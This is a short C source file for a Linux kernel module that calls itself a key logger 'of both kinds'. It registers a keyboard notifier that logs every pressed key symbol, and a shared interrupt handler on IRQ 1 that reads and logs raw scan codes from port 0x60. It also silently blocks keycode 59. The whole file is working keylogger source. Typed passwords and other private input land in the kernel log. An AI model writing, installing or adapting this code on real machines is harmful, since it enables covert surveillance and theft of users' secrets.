/* A key logger of both kinds */
#include <linux/interrupt.h>
#include <linux/io.h>
#include <linux/keyboard.h>
#include <linux/module.h>

static int on_key(struct notifier_block *nb, unsigned long stage, void *data)
{
	struct keyboard_notifier_param *param = data;

	if (stage == KBD_KEYSYM && param->down)
		pr_info("symbol %x, shift %d%s\n", param->value, param->shift, in_hardirq() ? "" : " outside");
	if (stage == KBD_KEYCODE && param->down && param->value == 59)
		return NOTIFY_STOP;
	if (stage == KBD_UNBOUND_KEYCODE)
		pr_info("code %u went no further\n", param->value);
	return NOTIFY_OK;
}

static struct notifier_block keys = { .notifier_call = on_key };

static irqreturn_t on_irq(int irq, void *dev)
{
	pr_info("scan code %02x\n", inb(0x60));
	return IRQ_HANDLED;
}

static int __init start(void)
{
	int ret = request_irq(1, on_irq, IRQF_SHARED, "logger", &keys);

	if (ret)
		return ret;
	pr_info("registered: %d\n", register_keyboard_notifier(&keys));
	return 0;
}

static void __exit finish(void)
{
	pr_info("unregistered: %d\n", unregister_keyboard_notifier(&keys));
	free_irq(1, &keys);
}
module_init(start);
module_exit(finish);
MODULE_LICENSE("GPL");
